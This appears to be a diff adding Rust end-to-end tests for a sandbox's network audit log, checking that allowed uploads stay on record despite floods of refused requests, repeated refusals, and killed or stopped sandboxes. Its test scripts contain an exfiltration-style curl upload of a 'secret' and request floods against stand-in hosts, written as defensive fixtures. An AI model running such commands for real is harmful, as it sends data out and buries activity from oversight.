@@ -1,0 +1,171 @@
+//! What a task was permitted is on record, however much it was refused, and whatever becomes of who reads the records.
+
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use e2e_tests::world::World;
+use serde_json::Value;
+
+use crate::command_line::project::{Project, assert_nothing_left};
+
+fn signal(name: &str, child: &Child) {
+    let sent = Command::new("kill")
+        .args([&format!("-{name}"), &child.id().to_string()])
+        .status();
+    assert!(sent.expect("kill").success());
+}
+
+/// Waits until `done`.
+async fn until(what: &str, mut done: impl FnMut() -> bool) {
+    let deadline = Instant::now() + Duration::from_mins(2);
+    while !done() {
+        assert!(Instant::now() < deadline, "{what}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+fn json_log(project: &Project) -> Vec<Value> {
+    let log = project.output(&["logs", "--output", "json"]).stdout;
+    let lines = log.lines();
+    lines
+        .map(|line| serde_json::from_str(line).expect("JSON"))
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn refusals_cannot_push_an_upload_out_of_the_log() {
+    let project = Project::new();
+    // Some 4 KiB each and no two alike: more than there is room for what was refused.
+    let script = "
+x=$(printf 'x%.0s' {1..3900})
+for c in 1 2 3 4; do
+  curl -s -o /dev/null \"http://evil.test/$c/[1-1400]/$x\" &
+done
+wait
+echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
+    let ended = project.run(script);
+    assert_eq!(
+        (ended.code, ended.stdout.as_str()),
+        (Some(0), "7"),
+        "it arrived: {ended:?}"
+    );
+    let text = project.output(&["logs"]).stdout;
+    let marks: Vec<&str> = text
+        .lines()
+        .filter(|line| line.starts_with("WARNING log truncated"))
+        .collect();
+    assert_eq!(
+        marks.len(),
+        2,
+        "the control: there were more refusals than room: {marks:?}"
+    );
+    let upload = "allowed POST https://open.test/sink/exfiltrated -> 200";
+    assert_eq!(
+        text.lines().filter(|line| *line == upload).count(),
+        1,
+        "{marks:?}"
+    );
+    let json = json_log(&project);
+    let found = json
+        .iter()
+        .filter(|entry| entry["decision"] == "allowed" && entry["target"] == "/sink/exfiltrated")
+        .count();
+    assert_eq!(found, 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_same_refusal_a_thousand_times_is_some_lines_and_a_count() {
+    let project = Project::new();
+    let ended = project.run("curl -s -o /dev/null 'http://evil.test/same?[1-1000]' ; curl -s -o /dev/null $(printf 'http://evil.test/same %.0s' {1..1000})");
+    assert_eq!(ended.code, Some(0), "{ended:?}");
+    let text = project.output(&["logs", "--blocked"]).stdout;
+    let line = "BLOCKED GET http://evil.test/same -> 403 [reason: host]";
+    let one_by_one = text.lines().filter(|found| *found == line).count();
+    assert!((1..100).contains(&one_by_one), "{one_by_one}");
+    let different = text.lines().filter(|line| line.contains("/same?")).count();
+    assert_eq!(different, 1000, "the control: what differs is not folded");
+    let entries = json_log(&project);
+    let same = entries.iter().filter(|entry| entry["target"] == "/same");
+    let happened: u64 = same.map(|entry| entry["repeated"].as_u64().unwrap_or(1)).sum();
+    assert_eq!(happened, 1000, "none is forgotten");
+    assert!(text.contains(" [reason: host] [repeated: "), "{}", text.len());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_upload_whose_sandbox_is_killed_is_cut_off_and_on_record() {
+    let prefix = "e2e-record-killed";
+    let project = Project::with_prefix(prefix);
+    let script = "
+(while echo more; do sleep 0.05; done) 2>/dev/null | curl -sS -T - -X POST https://open.test/sink/upload
+touch cut
+sleep 600";
+    let mut child = project
+        .sandbox(&["run", "--", "bash", "-c", script])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("the sandbox command");
+    let open = "open POST https://open.test/sink/upload -> in progress";
+    until("the upload is on record while it goes on", || {
+        project.output(&["logs"]).stdout.lines().any(|line| line == open)
+    })
+    .await;
+    assert!(!project.path().join("cut").exists(), "the control: it goes on");
+    signal("KILL", &child);
+    child.wait().expect("our own child");
+    until("the upload ends with its owner", || {
+        project.path().join("cut").exists()
+    })
+    .await;
+    let entries = json_log(&project);
+    let opened = entries
+        .iter()
+        .filter(|entry| entry["event"] == "request_open")
+        .count();
+    assert_eq!(opened, 1);
+    let next = project.run("true");
+    assert_eq!(next.code, Some(0), "{next:?}");
+    assert_nothing_left(prefix).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn while_its_sandbox_is_stopped_a_task_reaches_nothing() {
+    let prefix = "e2e-record-stopped";
+    let project = Project::with_prefix(prefix);
+    project.write(".sandbox/network-allowlist.yaml", "domains: [stopped.test]\n");
+    // So few that no buffer between the proxy and its owner ever fills.
+    let script = "
+until [ -e enough ]; do
+  curl -s -o /dev/null -w '%{http_code}\\n' --max-time 5 https://stopped.test/ >> codes
+  sleep 0.2
+done";
+    let child = project
+        .sandbox(&["run", "--", "bash", "-c", script])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("the sandbox command");
+    let seen = || World::shared().seen("stopped.test").len();
+    let codes = || std::fs::read_to_string(project.path().join("codes")).unwrap_or_default();
+    let refused = || codes().lines().filter(|code| *code == "503").count();
+    until("the control: it reaches the host", || seen() > 3).await;
+    signal("STOP", &child);
+    until("it is refused", || refused() >= 3).await;
+    let reached = seen();
+    let before = refused();
+    until("it goes on asking", || refused() > before + 10).await;
+    assert_eq!(seen(), reached, "nothing came through meanwhile");
+    signal("CONT", &child);
+    until("it reaches the host again", || seen() > reached + 3).await;
+    project.write("enough", "");
+    let ended = tokio::task::spawn_blocking(move || child.wait_with_output()).await;
+    let ended = ended.expect("a thread").expect("our own child");
+    assert_eq!(ended.status.code(), Some(0), "{ended:?}");
+    let text = project.output(&["logs"]).stdout;
+    let allowed = text
+        .lines()
+        .filter(|line| line.starts_with("allowed GET https://stopped.test/"))
+        .count();
+    assert_eq!(allowed, seen(), "all that arrived is on record");
+    assert_nothing_left(prefix).await;
+}
